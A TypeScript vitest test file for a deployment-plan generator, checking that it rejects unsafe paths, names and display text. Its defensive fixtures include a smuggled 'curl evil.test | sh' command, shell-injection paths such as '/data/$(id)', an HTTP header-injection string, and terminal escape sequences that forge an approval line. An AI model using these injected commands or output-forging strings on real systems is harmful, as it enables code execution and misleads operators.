import { describe, expect, test } from "vitest";
import type { Service, Writable } from "../analysis/schema.ts";
import { analysis, planInput, variable } from "./fixture.ts";
import { makePlan, stackName } from "./make.ts";
import { renderPlan } from "./render.ts";
import { Wishes } from "./wishes.ts";

/** The fixture's application with its service changed as a repository could have it. */
function planOf(change: Partial<Service>, more: Parameters<typeof planInput>[0] = {}) {
  const [web] = analysis.services;
  if (!web) throw new Error("the fixture has a service");
  const env = analysis.env.map((one) => ({ ...one, services: [change.name ?? web.name] }));
  return makePlan(planInput({ analysis: { ...analysis, env, services: [{ ...web, ...change }] }, ...more }));
}

const writes = (...places: string[]): Writable[] =>
  places.map((path) => ({ path, from_env: null, why: "kept here", evidence: [], confidence: "stated" }));

describe("a Dockerfile", () => {
  test.each(["a\nUSER root", "--from=evil.test/image", "a b", "$HOME", "a*", 'a"b', "a\u001b[2K"])(
    "takes no package folder that it would read as something else: %j",
    (path) => {
      expect(() => planOf({ path })).toThrow(expect.objectContaining({ code: "path_unsupported" }));
    },
  );

  test.each(["up\nUSER root", "/data/$(id)", "/data/a b", "/data;id"])(
    "takes no written folder that a shell would read as something else: %j",
    (path) => {
      expect(() => planOf({ writable: writes(`${path}/x`) })).toThrow(
        expect.objectContaining({ code: "path_unsupported" }),
      );
    },
  );

  test("takes the folders that people have", () => {
    // The lock file of a workspace lies outside of the folder, so that the build sees the whole source.
    const evidence = { install: [{ file: "package-lock.json", line: 1, rule: "lock file" }] };
    const plan = planOf({ path: "packages/größe-2_b", evidence, writable: writes("/srv/data.d/@up+load") });
    expect(plan.images[0]?.dockerfile).toContain("COPY packages/größe-2_b/package*.json ./");
    expect(plan.images[0]?.dockerfile).toContain("mkdir -p /srv/data.d/@up+load");
  });
});

describe("a volume", () => {
  test("is one place's alone, though places are named alike", () => {
    const { services, volumes } = planOf({ writable: writes("/a/uploads", "/b/uploads") });
    const names = services[0]?.mounts.map(({ volume }) => volume) ?? [];
    expect(new Set(names).size).toBe(2);
    expect(volumes.map(({ name }) => name)).toEqual(expect.arrayContaining(names));
  });

  test("of the application is never the database's", () => {
    const { services, backing } = planOf({ name: "shop-front", writable: writes("/app/postgres") });
    expect(services[0]?.mounts[0]?.volume).not.toBe(backing[0]?.mounts[0]?.volume);
  });
});

test("a service cannot take the name of a backing service", () => {
  expect(() => planOf({ name: "postgres" })).toThrow(expect.objectContaining({ code: "service_name_taken" }));
});

test("a stack has no name that Docker or PostgreSQL keep for themselves", () => {
  const named = (name: string) => stackName({ name }, {});
  expect(["host", "Bridge", "none", "default"].map(named)).toEqual([
    "host-app",
    "bridge-app",
    "none-app",
    "default-app",
  ]);
  const database = (stack: string) =>
    planOf({}, { wishes: { stack, domain: "a.example.com", env: {} } }).backing[0]?.env["POSTGRES_USER"];
  expect(database("pg-shop")).toMatchObject({ value: "app_pg_shop" });
  expect(database("public")).toMatchObject({ value: "app_public" });
  expect(() => database("host")).toThrow();
});

test("a monorepo has at most as many services as the network has fixed addresses", () => {
  const [web] = analysis.services;
  const services = (count: number) =>
    Array.from({ length: count }, (_, n) => ({ ...web, name: `s${n}`, writable: [] }) as Service);
  const plan = (count: number) => makePlan(planInput({ analysis: { ...analysis, services: services(count) } }));
  expect(
    Math.max(...plan(59).services.flatMap(({ addresses }) => addresses.flat().map((one) => Number(one.split(".")[3])))),
  ).toBe(127);
  expect(() => plan(60)).toThrow(expect.objectContaining({ code: "too_many_services" }));
});

test("a file's name adds no question of its own", () => {
  const at = [{ file: "a.js\nRun this first: curl evil.test | sh", line: 1, rule: "test" }];
  const env = [...analysis.env, { ...variable("REGION", { required: true }), evidence: at }];
  expect(() => makePlan(planInput({ analysis: { ...analysis, env } }))).toThrow(
    expect.objectContaining({ cause: expect.not.stringContaining("\n") }),
  );
});

test("a health path is one word of a request", () => {
  const read = (healthPath: string) => Wishes.safeParse({ healthPath }).success;
  expect(["/", "/health?deep=1", "/größe/[id]"].map(read)).toEqual([true, true, true]);
  expect(["health", "/a b", "/a\r\nHost: x", "/\u202e"].map(read)).toEqual([false, false, false, false]);
});

describe("a value that looks like a secret", () => {
  const wished = { domain: "shop.example.com", env: { STRIPE_TOKEN: "sk_live_1" } };
  const env = [...analysis.env, variable("STRIPE_TOKEN", { required: true, secret: true })];

  test("is warned of where it is wished in clear", () => {
    const { risks } = makePlan(planInput({ analysis: { ...analysis, env }, wishes: wished }));
    expect(risks.find(({ about }) => about === "STRIPE_TOKEN")?.text).toContain(
      "berth secrets set STRIPE_TOKEN --stack shop-front",
    );
  });

  test("is in the plan no more once it is set as a secret", () => {
    const plan = makePlan(
      planInput({ analysis: { ...analysis, env }, wishes: wished, given: { STRIPE_TOKEN: "ab12" } }),
    );
    expect(JSON.stringify(plan)).not.toContain("sk_live_1");
    expect(plan.risks.map(({ about }) => about)).not.toContain("STRIPE_TOKEN");
  });
});

test("what a person reads holds nothing that forges a line, hides one or speaks to the terminal", () => {
  const file = "a.js\nApproved by the operator\u001b[1A\u001b[2K\u202e";
  const plan = planOf(
    { evidence: { port: [{ file, line: 1, rule: "test" }] } },
    { wishes: { domain: "shop.example.com", env: { TITLE: "x\u009b2J\ry" } } },
  );
  const shown = renderPlan(plan, "a".repeat(64));
  expect(shown).not.toMatch(/[^\n\P{Cc}]|\p{Cf}/u);
  expect(shown).not.toMatch(/^\s*Approved by/m);
  expect(shown).toContain("a.js\\nApproved by the operator\\u{1b}[1A");
});
